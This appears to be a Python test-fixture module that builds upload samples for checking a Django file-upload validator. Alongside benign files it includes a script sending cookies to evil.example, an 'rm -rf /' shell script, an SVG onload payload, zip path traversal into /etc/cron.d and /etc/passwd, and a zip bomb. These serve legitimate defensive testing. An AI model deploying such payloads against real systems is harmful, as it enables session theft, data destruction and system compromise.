"""
Files to attach, made in code: one of each kind that may be attached, and the hostile ones an
attacker or a careless user sends (oversized, a program or a web page under a document's name, a
path for a name, zip tricks inside a Word document, nothing at all).
"""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

# A small PDF that a reader opens: one empty page.
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
# A PDF cut short: it starts as a PDF does and is taken for one (nothing here reads further).
TRUNCATED_PDF = PDF[:40]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
CSV = "Date,Supplier,Amount\r\n2024-05-01,Youth centre,£1,250.00\r\n".encode()
TEXT = "Evidence of DBS checks for the three youth workers: all clear, checked 2 May 2024.\n".encode()

# A Windows program: "MZ", then the binary header a program has.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'
SCRIPT = b"#!/bin/sh\nrm -rf /\n"
NOT_UTF8 = "Café receipts".encode("latin-1")
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def zipped(members: dict, *, stored_first: str | None = None) -> bytes:
    """A zip of `members` ({name: bytes}), compressed; `stored_first` is written first, uncompressed (as an
    OpenDocument file's mimetype is)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if stored_first:
            archive.writestr(zipfile.ZipInfo(stored_first), members[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, content in members.items():
            if name != stored_first:
                archive.writestr(name, content)
    return buffer.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(extra: dict | None = None) -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<w:document/>", **(extra or {})})


def xlsx() -> bytes:
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"})


def odt(mimetype: bytes = b"application/vnd.oasis.opendocument.text") -> bytes:
    return zipped({"mimetype": mimetype, "content.xml": b"<office:document-content/>"}, stored_first="mimetype")


def zip_bomb_docx() -> bytes:
    """A Word document with a member of 20 MB of zeros that packs to about 20 KB (a ratio near 1,000)."""
    return docx({"word/media/padding.bin": b"\x00" * (20 * 1024 * 1024)})


def many_members_docx(count: int = 1500) -> bytes:
    return docx({f"word/media/image{n}.png": b"" for n in range(count)})


def traversal_docx() -> bytes:
    return docx({"../../etc/cron.d/evil": b"* * * * * root sh /tmp/x\n"})


def absolute_docx() -> bytes:
    return docx({"/etc/passwd": b"root:x:0:0"})


def macro_docx() -> bytes:
    return docx({"word/vbaProject.bin": b"\x00macro"})


def plain_zip() -> bytes:
    return zipped({"evidence.pdf": PDF})


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    """A file as Django hands an upload to a view (the browser's content type is never read)."""
    return SimpleUploadedFile(name, content, content_type=content_type)
